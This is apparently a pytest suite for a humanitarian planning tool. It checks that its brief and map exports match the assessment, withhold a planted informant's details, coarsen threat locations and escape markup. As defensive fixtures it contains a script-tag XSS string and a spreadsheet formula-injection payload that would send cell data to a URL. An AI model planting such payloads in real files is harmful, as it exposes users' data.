"""The brief and the exports: re-read with the standard tools and checked against the assessment's figures,
with sensitive fields kept out, threat positions coarsened to their cells, and layer text escaped."""

from __future__ import annotations

import csv
import json
import math
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest
import rasterio
from conftest import debian_tool, require_realdata
from matplotlib.image import imread
from pyproj import Transformer
from test_record import here
from world import lonlat, make_world

from planner.assess import Assessment, assess
from planner.brief import brief, brief_html
from planner.errors import InputError
from planner.export import export
from planner.outputs import LAYERS, Bundle, bundle, from_record
from planner.plan import open_plan
from planner.record import NotAllowedError, Record, RecordError, User
from planner.redaction import Redaction, policy
from planner.settings import RedactionSettings, Settings
from planner.vocabulary import EXPORT_FORMATS

ROOT = Path(__file__).resolve().parent.parent
PASSWORD = "correct horse battery"
SECRET = "SECRET-INFORMANT-Mary-K"
SECRET_NOTE = "phone +211-SECRET-0042"
MARKUP = '<script>alert("x")</script> Clinic & <b>Co</b>'
KML_NS = {"k": "http://www.opengis.net/kml/2.2"}
OUT_NAMES = {"gpkg": "out.gpkg", "geotiff": "out.tif", "kml": "out.kml", "geojson": "geojson", "csv": "csv"}


def sensitive_world(folder: Path) -> Path:
    """A cordon with a clinic whose name carries markup, a road through it and two reports with a named source."""
    folder.mkdir(parents=True, exist_ok=True)
    near, far = lonlat(470, 530), lonlat(930, 120)  # the near report is not at the clinic: its position is its own
    threats = (
        "date,lat,lon,type,source,notes\n"
        f"2025-05-20,{near[1]},{near[0]},attack on civilians,{SECRET},{SECRET_NOTE}\n"
        f"2025-05-25,{far[1]},{far[0]},armed clash,{SECRET},seen by the same person\n"
    )
    return make_world(
        folder,
        sites=[("clinic", MARKUP, 450, 550), ("school", "School", 450, 850)],
        threats=threats,
        threats_spec={"sensitive": ["source", "notes"]},
        roads=[("r1", "primary", "yes", [(0, 550), (1000, 550)])],
    )


def new_record(folder: Path) -> tuple[Record, dict[str, User]]:
    record = Record.open(f"sqlite:///{folder / 'record.db'}")
    admin = record.add_user(None, "admin-1", "admin", PASSWORD)
    people = {"admin": admin}
    for role in ("planner", "poc_adviser", "commander"):
        people[role] = record.add_user(admin, f"{role}-1", role, PASSWORD)
    return record, people


@pytest.fixture
def recorded(tmp_path: Path) -> tuple[Record, str, dict[str, User]]:
    plan, layers = open_plan(sensitive_world(tmp_path / "world"))
    result = assess(plan, layers, Settings(surface={"margin_m": 300}))
    record, people = new_record(tmp_path)
    ident = record.record_assessment(people["planner"], result)
    return record, ident, people


def released(recorded: tuple[Record, str, dict[str, User]], **kwargs: Any) -> tuple[Assessment, Bundle, Redaction]:
    record, ident, _ = recorded
    return from_record(record, ident, RedactionSettings(), **kwargs)


def write_all(found: Bundle, folder: Path) -> dict[str, Path]:
    folder.mkdir()
    paths = {}
    for fmt in EXPORT_FORMATS:
        export(found, fmt, folder / OUT_NAMES[fmt])
        paths[fmt] = folder / OUT_NAMES[fmt]
    return paths


def every_text(paths: dict[str, Path], folder: Path, assessment: Assessment, found: Bundle) -> str:
    """Everything a reader of the outputs could see, as text: files, metadata, the brief in HTML and PDF."""
    texts = []
    for path in paths.values():
        files = sorted(path.iterdir()) if path.is_dir() else [path]
        for file in files:
            texts.append(file.read_bytes().decode("utf-8", errors="replace"))
    with rasterio.open(paths["geotiff"]) as src:
        texts.append(json.dumps(src.tags()))
    pdf = folder / "brief.pdf"
    pdf.write_bytes(brief(assessment, found, "pdf"))
    pdftotext = debian_tool("pdftotext", "poppler-utils")
    texts.append(subprocess.run([pdftotext, str(pdf), "-"], check=True, capture_output=True, text=True).stdout)
    texts.append(brief_html(assessment, found))
    return "\n".join(texts)


# --- figures: each format re-read with the standard tools -----------------------------------------------------


def test_each_export_reread_with_the_standard_tools_gives_the_assessments_figures(
    recorded: tuple[Record, str, dict[str, User]], tmp_path: Path
) -> None:
    assessment, found, _ = released(recorded)
    paths = write_all(found, tmp_path / "out")
    result = assessment.coas[0]

    listed = {name for name, _ in pyogrio.list_layers(paths["gpkg"])}
    assert set(LAYERS) | {"about", "checklist"} <= listed
    zones = gpd.read_file(paths["gpkg"], layer="zones")
    core = zones[(zones["element"] == "cordon-1") & (zones["zone"] == "core")].iloc[0]
    assert core["people"] == pytest.approx(result.exposure.by_element["cordon-1"]["core"].people)
    assert core["displaced"] == pytest.approx(result.exposure.by_element["cordon-1"]["core"].displaced)
    assert zones.crs.to_epsg() == 4326
    sites = gpd.read_file(paths["gpkg"], layer="sites")
    assert sorted(sites["name"].dropna()) == sorted(h.name for h in result.exposure.sites if isinstance(h.name, str))
    clinic = sites[sites["name"] == MARKUP].iloc[0]
    assert "P38" in clinic["precautions"]  # the rule on health facilities by a cordon names this clinic
    reports = gpd.read_file(paths["gpkg"], layer="threat_reports")
    assert sorted(reports["event_id"]) == sorted(r.event_id for r in result.threats.reports)
    closures = gpd.read_file(paths["gpkg"], layer="closures")
    assert list(closures["road_id"]) == [c.road_id for c in result.access.closures] == ["r1"]
    cells = gpd.read_file(paths["gpkg"], layer="risk_cells")
    assert cells["score_A"].sum() == pytest.approx(float(np.nansum(assessment.surface.score["A"])), rel=1e-5)

    with rasterio.open(paths["geotiff"]) as src:
        assert src.crs.to_string() == assessment.crs
        assert src.transform == assessment.surface.transform
        assert src.descriptions[0] == "score_A"
        np.testing.assert_allclose(src.read(1), assessment.surface.score["A"], rtol=1e-6)
        assert "events.source" in src.tags()["PRIMUM_REDACTION"]

    for name in LAYERS:
        frame = gpd.read_file(paths["geojson"] / f"{name}.geojson")
        assert len(frame) == len(found.layers[name]), name

    kml = ET.parse(paths["kml"]).getroot()
    placemarks = kml.findall(".//k:Placemark", KML_NS)
    assert len(placemarks) == sum(len(f) for f in found.layers.values())
    assert "Withheld" in kml.find("k:Document/k:description", KML_NS).text

    heading = len(found.heading)
    sites_csv = pd.read_csv(paths["csv"] / "sites.csv", skiprows=heading, encoding="utf-8-sig")
    assert sorted(sites_csv["site_id"]) == sorted(h.id for h in result.exposure.sites)
    checklist = pd.read_csv(paths["csv"] / "checklist.csv", skiprows=heading, encoding="utf-8-sig")
    assert list(checklist["rule"]) == [item.rule for item in result.checklist.items]
    assert set(checklist["status"]) == {"open"}  # the record's status, not a guess
    first_line = (paths["csv"] / "checklist.csv").read_text(encoding="utf-8-sig").splitlines()[0]
    assert first_line.startswith("# Primum · Assessment")


def test_the_brief_pdf_has_a_drawn_first_page_and_annexes_and_the_html_fetches_nothing(
    recorded: tuple[Record, str, dict[str, User]], tmp_path: Path
) -> None:
    assessment, found, _redaction = released(recorded)
    pdf = tmp_path / "brief.pdf"
    pdf.write_bytes(brief(assessment, found, "pdf"))
    pdftoppm = debian_tool("pdftoppm", "poppler-utils")
    subprocess.run([pdftoppm, "-r", "40", "-png", str(pdf), str(tmp_path / "page")], check=True)
    pages = sorted(tmp_path.glob("page-*.png"))
    assert len(pages) >= 2  # the one-page brief, then annexes
    for page in pages:
        image = imread(page)
        assert (image[..., :3] < 0.5).mean() > 0.002, f"{page.name} is blank"
    pdftotext = debian_tool("pdftotext", "poppler-utils")
    first = subprocess.run(
        [pdftotext, "-f", "1", "-l", "1", str(pdf), "-"], check=True, capture_output=True, text=True
    ).stdout
    for expected in ("Commander's brief", "Courses of action", "Top precautions", "Sign-off", "Not signed off"):
        assert expected in first
    assert "Annex A" not in first

    html = brief_html(assessment, found)
    text = re.sub(r"data:image/png;base64,[A-Za-z0-9+/=]+", "", html)
    assert re.search(r"(https?:|ftp:)?//[a-z0-9]", text, re.IGNORECASE) is None
    references = _references(html)
    assert references and all(ref.startswith(("data:", "#")) for ref in references)


class _Refs(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [value or "" for name, value in attrs if name in ("src", "href")]


def _references(html: str) -> list[str]:
    parser = _Refs()
    parser.feed(html)
    return parser.found


def test_the_brief_shows_review_status_sign_off_validity_and_who_did_what(
    recorded: tuple[Record, str, dict[str, User]], tmp_path: Path
) -> None:
    record, ident, people = recorded
    for item in record.status(ident)["items"]:
        record.review(people["poc_adviser"], ident, item["key"], status="accepted_risk", note="kept <away>")
    record.signoff(people["commander"], ident, decision="approve")
    assessment, found, _redaction = released(recorded, lang="fr")
    html = brief_html(assessment, found)
    assert "Fiche de décision du commandant" in html and "VALIDE" in html and "approuvée" in html
    assert "risque accepté" in html and "poc_adviser-1" in html and "commander-1" in html
    assert "kept &lt;away&gt;" in html  # an adviser's note is text, never markup
    inputs = record.status(ident)
    assert inputs["sha256"] in html
    # The chain's head as it was read, the same hash the anchor outside the record holds for that entry.
    head = inputs["audit_head"]
    assert f"{head['seq']} · {head['hash']}" in html
    assert record.seal.anchored()[head["seq"]] == head["hash"]
    layers = Path(assessment.layerset.path).parent
    (layers / "idp.geojson").write_text((layers / "idp.geojson").read_text().replace("1000", "1200"))
    with pytest.raises(RecordError, match=r"layer `idp` changed"):
        released(recorded)


# --- redaction ---------------------------------------------------------------------------------------------------


def test_a_planted_source_never_reaches_any_output_unless_a_cleared_role_asks(
    recorded: tuple[Record, str, dict[str, User]], tmp_path: Path
) -> None:
    people = recorded[2]
    assessment, found, _ = released(recorded)
    text = every_text(write_all(found, tmp_path / "plain"), tmp_path, assessment, found)
    assert SECRET not in text and SECRET_NOTE not in text
    assert "Withheld (marked sensitive in the layer set): events.source, events.notes." in text

    for who in (None, people["planner"], people["commander"]):
        with pytest.raises(NotAllowedError, match="may not include sensitive fields"):
            released(recorded, user=who, include_sensitive=True)

    # The control: a cleared adviser who asks does get them, and every output says so.
    assessment, found, _redaction = released(recorded, user=people["poc_adviser"], include_sensitive=True)
    paths = write_all(found, tmp_path / "cleared")
    reports = gpd.read_file(paths["gpkg"], layer="threat_reports")
    assert set(reports["events_source"]) == {SECRET}
    assert "Sensitive fields INCLUDED at the request of poc_adviser-1" in found.statement[0]


def test_every_exported_column_is_described_in_the_export_s_language(
    recorded: tuple[Record, str, dict[str, User]], tmp_path: Path
) -> None:
    people = recorded[2]
    described = {}
    for lang in ("en", "fr"):
        # A cleared export carries the most columns: the sensitive fields are described too, as such
        _, found, _ = released(recorded, user=people["poc_adviser"], include_sensitive=True, lang=lang)
        paths = write_all(found, tmp_path / lang)
        table = gpd.read_file(paths["gpkg"], layer="columns")
        said = {(r.layer, r.column): r.description for r in table.itertuples()}
        for layer in [*LAYERS, "checklist"]:
            for column in pyogrio.read_info(paths["gpkg"], layer=layer)["fields"]:
                assert said.get((layer, column)), f"{layer}.{column} is not described ({lang})"
        assert "shown to cleared roles only" in said["threat_reports", "events_source"] or lang == "fr"
        for name in ("sites", "checklist", "threat_reports"):
            lines = (paths["csv"] / f"{name}.csv").read_text(encoding="utf-8-sig").splitlines()
            header = next(csv.reader([line for line in lines if not line.startswith("#")]))
            rows = pd.read_csv(paths["csv"] / "columns.csv", comment="#", encoding="utf-8-sig")
            assert set(header) <= set(rows[rows["layer"] == name]["column"]), name
        with rasterio.open(paths["geotiff"]) as src:
            assert all(src.tags(i)["DESCRIPTION_TEXT"] for i in range(1, src.count + 1))
            band = src.tags(1)["DESCRIPTION_TEXT"]
        assert set(pd.read_csv(paths["geojson"] / "columns.csv", comment="#")["layer"]) == {
            *LAYERS,
            "checklist",
            "support",
        }
        described[lang] = (said, band)
    english, french = described["en"][0], described["fr"][0]
    assert english.keys() == french.keys()
    assert not [k for k in english if english[k] == french[k] and k[1] not in ("date", "longitude")]
    assert described["en"][1] == "expected casualties in this cell for COA A (central estimate)"
    assert described["fr"][1] == "victimes attendues dans cette cellule pour le MA A (valeur centrale)"
    assert french["threat_reports", "events_source"].startswith("source du signalement, de la couche events")


def test_coarsened_reports_sit_at_their_cell_centres_in_every_output(
    recorded: tuple[Record, str, dict[str, User]], tmp_path: Path
) -> None:
    cell = 500.0
    assessment, found, _redaction = released(recorded, coarsen_km=cell / 1000)
    exact = [(r.x, r.y) for r in assessment.coas[0].threats.reports]
    paths = write_all(found, tmp_path / "coarse")
    to_utm = Transformer.from_crs("EPSG:4326", assessment.crs, always_xy=True)
    for frame in (
        gpd.read_file(paths["gpkg"], layer="threat_reports"),
        gpd.read_file(paths["geojson"] / "threat_reports.geojson"),
    ):
        x, y = to_utm.transform(frame.geometry.x.to_numpy(), frame.geometry.y.to_numpy())
        np.testing.assert_allclose((np.asarray(x) / cell) % 1, 0.5, atol=1e-4)
        np.testing.assert_allclose((np.asarray(y) / cell) % 1, 0.5, atol=1e-4)
        assert set(frame["distance_m"] % cell) == {0.0}
        assert (frame["location_precision_m"] >= cell / 2).all()
    for ex, ey in exact:  # each exact position is in the cell whose centre is shown
        centre = (math.floor(ex / cell) + 0.5) * cell, (math.floor(ey / cell) + 0.5) * cell
        assert np.hypot(np.asarray(x) - centre[0], np.asarray(y) - centre[1]).min() < 0.05  # GeoJSON keeps 7 decimals
    csv = pd.read_csv(paths["csv"] / "threat_reports.csv", skiprows=len(found.heading), encoding="utf-8-sig")
    assert set(csv["position"]) == {"centre of a 0.5 km cell"}
    with rasterio.open(paths["geotiff"]) as src:
        assert src.res == (cell, cell)
        assert src.transform.c % cell == 0 and src.transform.f % cell == 0
    checklist = pd.read_csv(paths["csv"] / "checklist.csv", skiprows=len(found.heading), encoding="utf-8-sig")
    p13 = checklist[checklist["rule"] == "P13"].iloc[0]
    assert "nearest ≤ 500 m" in p13["evidence"]
    text = every_text(paths, tmp_path, assessment, found)
    exact_lonlat = [
        f"{v:.6f}" for r in exact for v in Transformer.from_crs(assessment.crs, 4326, always_xy=True).transform(*r)
    ]
    assert not [v for v in exact_lonlat if v in text]
    assert "centres of 0.5 km grid cells" in text


def test_markup_from_layers_is_escaped_in_the_html_brief_and_in_kml(
    recorded: tuple[Record, str, dict[str, User]], tmp_path: Path
) -> None:
    assessment, found, _redaction = released(recorded)
    html = brief_html(assessment, found)
    assert "<script" not in html and "<b>Co</b>" not in html
    assert "&lt;script&gt;" in html
    path = tmp_path / "out.kml"
    export(found, "kml", path)
    root = ET.parse(path).getroot()
    assert not [e for e in root.iter() if e.tag.rsplit("}", 1)[-1] in ("script", "b")]
    names = [e.text for e in root.findall(".//k:Placemark/k:name", KML_NS)]
    # Google Earth renders names and balloons as HTML: the markup arrives as text to show, not to run.
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; Clinic &amp; &lt;b&gt;Co&lt;/b&gt;" in names


def test_an_export_never_overwrites_a_folder_or_writes_half(
    recorded: tuple[Record, str, dict[str, User]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, found, _ = released(recorded)
    (tmp_path / "csv").mkdir()
    with pytest.raises(InputError, match="already exists"):
        export(found, "csv", tmp_path / "csv")
    with pytest.raises(InputError, match="unknown format 'shp'"):
        export(found, "shp", tmp_path / "x.shp")
    with pytest.raises(InputError, match="its folder does not exist"):
        export(found, "gpkg", tmp_path / "missing" / "x.gpkg")
    calls = []

    def fail_on_third_layer(*args: Any, **kwargs: Any) -> None:
        calls.append(kwargs.get("layer"))
        if len(calls) == 3:
            raise OSError("disk full")
        write_dataframe(*args, **kwargs)

    write_dataframe = pyogrio.write_dataframe
    monkeypatch.setattr("planner.export.pyogrio.write_dataframe", fail_on_third_layer)
    with pytest.raises(OSError, match="disk full"):
        export(found, "gpkg", tmp_path / "half.gpkg")
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("record.db")) == ["csv", "world"]


def test_a_coarsening_grid_of_zero_is_refused() -> None:
    from planner.redaction import policy  # noqa: PLC0415

    with pytest.raises(InputError, match="--coarsen-km"):
        policy(None, RedactionSettings(), coarsen_km=0)


# --- command line -------------------------------------------------------------------------------------------------


def primum(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-c", "from planner.cli import main; main()", *args]
    return subprocess.run(command, capture_output=True, text=True, env=env, check=False, cwd=ROOT)


def test_the_command_line_writes_the_brief_and_exports_and_logs_a_sensitive_release(
    recorded: tuple[Record, str, dict[str, User]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    record, ident, _ = recorded
    monkeypatch.chdir(ROOT)  # the first command in a process of its own (a bare PATH), the others in this one
    env = {"PATH": "/usr/bin:/bin", "PRIMUM_DB": str(tmp_path / "record.db"), "PRIMUM_PASSWORD": PASSWORD}
    done = primum("brief", ident, "--format", "html", "--lang", "fr", "--out", str(tmp_path / "b.html"), env=env)
    assert done.returncode == 0, done.stderr
    assert "Retenus" in done.stdout and "Fiche de décision" in (tmp_path / "b.html").read_text()
    done = here("export", ident, "--format", "kml", "--out", str(tmp_path / "x.kml"), "--coarsen-km", "2", env=env)
    assert done.returncode == 0, done.stderr
    assert "2 km grid cells" in done.stdout
    with_sources = ["export", ident, "--format", "gpkg", "--out", str(tmp_path / "y.gpkg"), "--include-sensitive"]
    refused = here(*with_sources, "--as", "planner-1", env=env)
    assert refused.returncode == 2 and "may not include sensitive fields" in refused.stderr
    assert "Traceback" not in refused.stderr and not (tmp_path / "y.gpkg").exists()
    done = here(*with_sources, "--as", "poc_adviser-1", env=env)
    assert done.returncode == 0, done.stderr
    assert record.verify().intact
    with record.engine.connect() as conn:
        actions = [row[0] for row in conn.exec_driver_sql("select action from audit order by seq")]
    assert actions[-1] == "sensitive_release"
    bad = here("brief", ident, "--format", "docx", "--out", str(tmp_path / "b.docx"), env=env)
    assert bad.returncode == 2 and "use pdf or html" in bad.stderr


# --- real data ----------------------------------------------------------------------------------------------------


@pytest.mark.realdata
def test_juba_exports_and_brief_reread_with_the_real_layers(tmp_path: Path) -> None:
    require_realdata()
    plan, layers = open_plan(ROOT / "tests" / "scenarios" / "juba_poc.yaml")
    assessment = assess(plan, layers)
    found = bundle(assessment, Redaction(coarsen_m=1000.0))
    paths = write_all(found, tmp_path / "juba")
    zones = gpd.read_file(paths["gpkg"], layer="zones")
    assert len(zones) == 2 * sum(len(r.zones) for r in assessment.coas)
    sites = gpd.read_file(paths["gpkg"], layer="sites")
    assert "Juba UN House PoC3" in set(sites["name"])
    kml = ET.parse(paths["kml"]).getroot()
    assert len(kml.findall(".//k:Placemark", KML_NS)) == sum(len(f) for f in found.layers.values())
    with rasterio.open(paths["geotiff"]) as src:
        assert src.res == (1000.0, 1000.0) and src.count == len(assessment.coas) + 4
    html = brief_html(assessment, found)
    assert "Juba UN House PoC3" in html
    assert re.search(r"(https?:|ftp:)?//[a-z0-9]", re.sub(r"data:image/png;base64,[A-Za-z0-9+/=]+", "", html)) is None


def test_csv_cells_a_spreadsheet_would_run_as_formulas_arrive_as_text(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://127.0.0.1/?leak="&A1,"Alpha PoC")'
    (tmp_path / "world").mkdir()
    plan, layers = open_plan(
        make_world(tmp_path / "world", sites=[("clinic", formula, 450, 550), ("school", "@SUM(1+1)", 450, 650)])
    )
    found = bundle(assess(plan, layers, Settings(surface={"margin_m": 300})), policy(None, RedactionSettings()))
    export(found, "csv", tmp_path / "csv")
    cells = []
    for file in (tmp_path / "csv").iterdir():
        rows = [line for line in file.read_text(encoding="utf-8-sig").splitlines() if not line.startswith("# ")]
        cells += [cell for row in csv.reader(rows) for cell in row]
    assert "'" + formula in cells and "'@SUM(1+1)" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and not _number(c)]  # negative numbers stay numbers


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
